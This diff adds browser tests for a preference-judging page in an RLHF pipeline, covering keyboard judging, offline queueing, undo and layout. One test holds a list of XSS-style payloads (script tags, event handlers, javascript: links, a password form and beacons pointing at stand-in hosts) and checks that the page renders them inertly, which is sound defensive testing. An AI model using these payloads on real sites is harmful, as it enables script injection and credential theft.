@@ -1,0 +1,340 @@
+"""People judge in a real browser; what they press is in the store, once, and in the stage's preferences."""
+
+from __future__ import annotations
+
+import json
+from collections import Counter
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from rlhf_pipeline.records import Message, Preference, Prompt, read_jsonl
+from rlhf_pipeline.store import JudgementStore
+from rlhf_pipeline.store_records import NewResponse, NewTask
+from stages import collect
+from stages.collect import Config
+from tests.browser.conftest import Site
+from tests.stages.test_collect import job, response_set, run_folder
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+READY = "body[data-task]:not([data-task=''])"
+TOO_SOON_MS = 260  # the page takes two presses within a quarter of a second for one
+
+
+def task_of(page: Any) -> str:
+    return page.get_attribute("body", "data-task")
+
+
+def responses(page: Any) -> tuple[str, str]:
+    left, right = page.locator("#pair section").all_inner_texts()
+    return left, right
+
+
+def press(page: Any, key: str) -> None:
+    """Press a key as soon as the page takes it, and wait until another pair (or none) is on the screen."""
+    before = task_of(page)
+    page.wait_for_timeout(TOO_SOON_MS)
+    page.keyboard.press(key)
+    page.wait_for_function("before => document.body.dataset.task !== before", arg=before)
+
+
+def sent(page: Any) -> None:
+    page.wait_for_selector("body[data-waiting='0']")
+
+
+def good(page: Any) -> str:
+    """The key of the response that starts with "good"."""
+    return "1" if responses(page)[0].startswith("good") else "2"
+
+
+def make_round(tmp_path: Path, pairs: int, *texts: tuple[str, str], overlap: int = 1) -> tuple[JudgementStore, int]:
+    store = JudgementStore.open(tmp_path / "judgements.db")
+    round_id = store.open_round("people", overlap=overlap, seed=1, source_digest="d", lease_seconds=600)
+    both = texts or tuple((f"good {i}", f"bad {i}") for i in range(pairs))
+    store.add_tasks(
+        round_id,
+        [
+            NewTask(Prompt((Message("user", f"question {i}"),)), (NewResponse(a, "eos", "secret"), NewResponse(b)))
+            for i, (a, b) in enumerate(both)
+        ],
+    )
+    store.set_guidelines(round_id, "Choose **well**.")
+    return store, round_id
+
+
+def test_two_people_judge_by_keyboard_and_the_stage_exports_it(serve: Callable[..., Site], tmp_path: Path) -> None:
+    sets = [response_set(i, f"good {i}", f"bad {i}") for i in range(24)]
+    folder = run_folder(tmp_path, sets)
+    round_id = collect.open_for_people(job(folder, Config()).settings, folder)
+    site = serve(JudgementStore.open(folder / "judgements.db"), round_id)
+    ann, bob = site.page("Ann"), site.page("Bob")
+    for page in (ann, bob):
+        page.wait_for_selector(READY)
+    for number in range(11):
+        for page in (ann, bob):
+            if number == 2:
+                press(page, "t")
+            elif number == 4:
+                press(page, "s")
+            elif number == 6:  # a slip, taken back and judged again
+                at, slip = task_of(page), "2" if good(page) == "1" else "1"
+                press(page, slip)
+                press(page, "u")
+                assert task_of(page) == at
+                press(page, good(page))
+            else:
+                press(page, good(page) if number % 2 else {"1": "a", "2": "b"}[good(page)])
+    for page in (ann, bob):
+        sent(page)
+    rows = site.store.judgements(round_id)
+    counts = Counter((row.user, row.choice) for row in rows)
+    assert counts == {(n, c): k for n in ("Ann", "Bob") for c, k in (("response", 9), ("tie", 1), ("skip", 1))}
+    judged = [row for row in rows if row.choice != "skip"]
+    assert len({row.task_id for row in judged}) == len(judged)  # what one skipped, the other may have judged
+    texts = {r.id: r.text for t in site.store.tasks(round_id) for r in t.responses}
+    assert all(texts[row.response_id].startswith("good") for row in rows if row.response_id)
+    assert [row.revision for row in rows if row.revision > 1] == [3, 3]
+    assert all(row.active_ms is not None for row in rows)
+    for page in (ann, bob):
+        while task_of(page):
+            press(page, "3")
+            sent(page)
+    for page in (ann, bob):
+        sent(page)
+    metrics = collect.run(job(folder, Config()))
+    assert (metrics["judgements"], metrics["annotators"], metrics["ties"]) == (24, 2, 6)
+    exported = [Preference.from_json(row) for row in read_jsonl(folder / "collect.partial" / "preferences.jsonl")]
+    assert len(exported) == 18
+    assert all(p.chosen.startswith("good") and p.rejected.startswith("bad") for p in exported)
+
+
+def test_buttons_do_what_the_keys_do(serve: Callable[..., Site], tmp_path: Path) -> None:
+    site = serve(*make_round(tmp_path, 5))
+    page = site.page("Ann")
+    page.wait_for_selector(READY)
+    for button in ("#pick-a", "#pick-b", "#pick-tie", "#pick-skip", "#undo"):
+        before = task_of(page)
+        page.wait_for_timeout(TOO_SOON_MS)
+        page.click(button)
+        page.wait_for_function("before => document.body.dataset.task !== before", arg=before)
+    sent(page)
+    rows = site.store.judgements(site.round_id)
+    assert [row.choice for row in rows] == ["response", "response", "tie"]
+    assert rows[0].response_id == rows[0].left_id
+    assert rows[1].response_id != rows[1].left_id
+    assert "secret" not in page.content()
+
+
+def test_a_double_press_and_a_held_key_are_one_judgement(serve: Callable[..., Site], tmp_path: Path) -> None:
+    site = serve(*make_round(tmp_path, 5))
+    page = site.page("Ann")
+    page.wait_for_selector(READY)
+    page.wait_for_timeout(TOO_SOON_MS)
+    page.keyboard.press("1")
+    page.keyboard.press("1")
+    page.wait_for_timeout(TOO_SOON_MS)
+    page.keyboard.down("2")
+    for _ in range(5):
+        page.keyboard.down("2")  # what a held key sends
+    page.keyboard.up("2")
+    sent(page)
+    assert len(site.store.judgements(site.round_id)) == 2
+
+
+def test_what_the_server_did_not_confirm_survives_a_reload(serve: Callable[..., Site], tmp_path: Path) -> None:
+    site = serve(*make_round(tmp_path, 6))
+    page = site.page("Ann")
+    page.on("dialog", lambda dialog: dialog.accept())
+    page.wait_for_selector(READY)
+    page.route("**/api/v1/judgements", lambda route: route.abort())
+    judged = []
+    for _ in range(2):
+        judged.append(task_of(page))
+        press(page, good(page))
+    page.wait_for_selector("text=2 waiting to be sent (offline)")
+    assert site.store.judgements(site.round_id) == []
+    page.reload()
+    page.wait_for_selector("body[data-waiting='2']")
+    page.unroute("**/api/v1/judgements")
+    sent(page)
+    page.wait_for_selector(READY)
+    assert task_of(page) not in judged
+    assert sorted(str(row.assignment_id) for row in site.store.judgements(site.round_id)) == sorted(judged)
+
+
+def test_judging_goes_on_without_network(serve: Callable[..., Site], tmp_path: Path) -> None:
+    site = serve(*make_round(tmp_path, 6))
+    page = site.page("Ann")
+    page.wait_for_selector(READY)
+    page.context.set_offline(True)
+    for key in ("1", "u", "2", "3", "4"):
+        press(page, key)
+    page.wait_for_selector("text=5 waiting to be sent")
+    page.context.set_offline(False)
+    sent(page)
+    assert [row.choice for row in site.store.judgements(site.round_id)] == ["response", "tie", "skip"]
+
+
+def test_a_lost_confirmation_is_no_second_judgement(serve: Callable[..., Site], tmp_path: Path) -> None:
+    site = serve(*make_round(tmp_path, 4))
+    page = site.page("Ann")
+    page.wait_for_selector(READY)
+    lost = []
+
+    def lose_the_first(route: Any) -> None:
+        if lost:
+            route.continue_()
+        else:
+            lost.append(route.fetch().status)
+            route.abort()
+
+    page.route("**/api/v1/judgements", lose_the_first)
+    press(page, "1")
+    page.wait_for_selector("text=1 waiting to be sent")
+    sent(page)
+    assert lost == [200]
+    assert [row.revision for row in site.store.judgements(site.round_id)] == [1]
+
+
+def test_two_tabs_of_one_person_judge_a_pair_once(serve: Callable[..., Site], tmp_path: Path) -> None:
+    site = serve(*make_round(tmp_path, 4))
+    first = site.page("Ann")
+    first.wait_for_selector(READY)
+    second = site.page("Ann", context=first.context)
+    second.wait_for_selector(READY)
+    at = task_of(first)
+    assert task_of(second) == at
+    press(first, "1")
+    second.wait_for_function("at => document.body.dataset.task !== at", arg=at)
+    press(second, "2")
+    sent(first)
+    sent(second)
+    assert [row.revision for row in site.store.judgements(site.round_id)] == [1, 1]
+
+
+def test_undo_after_a_reload_brings_the_last_pair_back(serve: Callable[..., Site], tmp_path: Path) -> None:
+    site = serve(*make_round(tmp_path, 4))
+    page = site.page("Ann")
+    page.wait_for_selector(READY)
+    at = task_of(page)
+    press(page, "1")
+    sent(page)
+    page.reload()
+    page.wait_for_selector(READY)
+    press(page, "Backspace")
+    assert task_of(page) == at
+    sent(page)
+    assert site.store.judgements(site.round_id) == []
+
+
+def test_the_page_works_without_the_script(serve: Callable[..., Site], tmp_path: Path) -> None:
+    site = serve(*make_round(tmp_path, 4))
+    page = site.page("Ann", before=lambda page: page.route("**/app/judge.js", lambda route: route.abort()))
+    status = page.locator("#plain-status textarea")
+
+    def says(text: str) -> None:
+        page.wait_for_function(
+            "text => document.querySelector('#plain-status textarea')?.value.includes(text)", arg=text
+        )
+
+    says("by you")
+    shown = page.locator("#plain-a textarea").input_value()
+    for number, button in enumerate(("#pick-a", "#pick-tie", "#pick-skip"), 1):
+        page.click(button)
+        says(f"{number} by you")
+    page.click("#undo")
+    says("Taken back")
+    page.click("#pick-b")
+    says("3 by you")
+    page.click("#pick-a")
+    says("All pairs are judged")
+    rows = site.store.judgements(site.round_id)
+    texts = {r.id: r.text for t in site.store.tasks(site.round_id) for r in t.responses}
+    assert Counter(row.choice for row in rows) == {"response": 3, "tie": 1}
+    assert texts[rows[0].response_id or 0] == shown
+    assert "Thank you" in status.input_value()
+
+
+HOSTILE = [
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror='window.pwned=1'>",
+    "<svg onload='window.pwned=1'>",
+    "<iframe src='javascript:parent.pwned=1'></iframe>",
+    "<img src='http://beacon.test/b.png'>",
+    "![b](http://beacon.test/b.png)",
+    "[click](javascript:window.pwned=1)",
+    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
+    "<form action='http://evil.test'><input name=password></form>",
+    "<style>body{display:none}</style><link rel=stylesheet href='http://evil.test/x.css'>",
+    "${window.pwned=1} {{window.pwned=1}} <%= window.pwned=1 %>",
+    "<think>hidden thought</think><!-- hidden comment -->",
+    "</section></article><script>window.pwned=1</script>",
+]
+
+
+@pytest.mark.parametrize("scripted", [True, False])
+def test_hostile_text_is_shown_and_does_nothing(serve: Callable[..., Site], tmp_path: Path, scripted: bool) -> None:
+    site = serve(*make_round(tmp_path, 0, *[(text, f"harmless {i}") for i, text in enumerate(HOSTILE)]))
+
+    def block(page: Any) -> None:
+        page.on("dialog", lambda dialog: site.errors.append(dialog.message))
+        if not scripted:
+            page.route("**/app/judge.js", lambda route: route.abort())
+
+    page = site.page("Ann", before=block)
+    for text in HOSTILE:
+        if scripted:
+            page.wait_for_selector(READY)
+            assert any(text in shown for shown in responses(page))
+            page.keyboard.press("x")
+            assert any(text in shown for shown in responses(page))
+            page.keyboard.press("x")
+            press(page, "3")
+        else:
+            page.wait_for_function(
+                "text => ['a', 'b'].some(s => document.querySelector(`#plain-${s} textarea`)?.value === text)", arg=text
+            )
+            page.click("#pick-tie")
+        assert page.evaluate("window.pwned") is None
+    assert page.url == site.url
+
+
+def test_a_right_to_left_text_reads_from_the_right_and_a_phone_shows_all(
+    serve: Callable[..., Site], tmp_path: Path
+) -> None:
+    site = serve(*make_round(tmp_path, 0, ("سلام دنیا. " * 30, "Hello world. " * 30)))
+    context = site.browser.new_context(viewport={"width": 390, "height": 844})
+    site.contexts.append(context)
+    page = site.page("علی", context=context)
+    page.wait_for_selector(READY)
+    directions = page.evaluate(
+        "[...document.querySelectorAll('#pair .text')].map(e => [e.innerText[0], getComputedStyle(e).direction])"
+    )
+    assert sorted(directions) == [["H", "ltr"], ["س", "rtl"]]
+    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+    box = page.locator("#pick-a").bounding_box()
+    assert box["y"] + box["height"] <= 844
+
+
+def test_signing_in_as_another_person_on_one_computer_mixes_nothing_up(
+    serve: Callable[..., Site], tmp_path: Path
+) -> None:
+    site = serve(*make_round(tmp_path, 10))
+    page = site.page("Ann")
+    page.on("dialog", lambda dialog: dialog.accept())
+    page.wait_for_selector(READY)
+    page.route("**/api/v1/judgements", lambda route: route.abort())
+    press(page, "1")
+    page.click("text=Ann · sign out")
+    page.fill("#name", "Bob")
+    page.unroute("**/api/v1/judgements")
+    page.click("button")
+    page.wait_for_selector(READY)
+    press(page, "2")
+    sent(page)
+    assert [row.user for row in site.store.judgements(site.round_id)] == ["Bob"]
+    boxes = page.evaluate("Object.entries(localStorage).filter(([k]) => k.startsWith('rlhf-outbox-'))")
+    assert sorted(len(json.loads(value)) for _, value in boxes) == [0, 1]
